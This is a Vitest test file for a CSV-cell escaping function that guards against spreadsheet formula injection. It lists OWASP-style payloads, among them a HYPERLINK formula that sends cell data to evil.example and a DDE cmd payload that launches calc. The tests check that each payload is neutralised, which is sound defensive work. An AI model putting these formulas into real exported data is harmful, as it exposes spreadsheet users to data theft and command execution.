import Papa from "papaparse";
import { expect, it } from "vitest";
import { toCsvCell } from "./csv-cell";

// OWASP's payloads, and the separators that can start a new cell in a spreadsheet's reading.
const PAYLOADS: Array<[input: string, cell: string]> = [
  ["=1+1", `"'=1+1"`],
  ["+1+1", `"'+1+1"`],
  ["-2+3", `"'-2+3"`],
  ["@SUM(1+1)", `"'@SUM(1+1)"`],
  ["\t=1+1", `"'\t'=1+1"`],
  ["\r=1+1", `"'\r'=1+1"`],
  ["\0=1", `"'\0=1"`],
  [`=HYPERLINK("http://evil.example/?"&A1,"open")`, `"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`],
  ["=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`],
  // A cell that starts inside the value, for a spreadsheet that splits on ; or tab, or after a line break.
  ["Clean;=1+1", `"Clean;'=1+1"`],
  ["Clean\t@SUM(1)", `"Clean\t'@SUM(1)"`],
  ['ok,"=1+1', `"ok,""'=1+1"`],
  ["line\n-1", `"line\n'-1"`],
  ["a;b", `"a;b"`],
  ["a,b", `"a,b"`],
  ['He said "hi"', `"He said ""hi"""`],
  ["two\r\nlines", `"two\r\nlines"`],
];

it("neutralises and quotes each CSV injection payload", () => {
  for (const [input, cell] of PAYLOADS) expect(toCsvCell(input), JSON.stringify(input)).toBe(cell);
});

it("leaves plain values, prices, dates and IMEIs as they are", () => {
  for (const plain of [
    "353979106673005",
    "$0.08",
    "2026-11-21 08:00:00",
    "Completed",
    "iPhone 15 - Clean",
    "",
  ])
    expect(toCsvCell(plain)).toBe(plain);
  expect(toCsvCell(null)).toBe("");
  expect(toCsvCell(undefined)).toBe("");
});

it("no cell of a comma reading starts a formula", () => {
  const row = PAYLOADS.map(([input]) => toCsvCell(input)).join(",");
  const [cells] = Papa.parse<string[]>(row, { delimiter: "," }).data;
  expect(cells).toHaveLength(PAYLOADS.length);
  for (const cell of cells!) expect(cell).not.toMatch(/^[=+\-@\t\r\0]/);
});
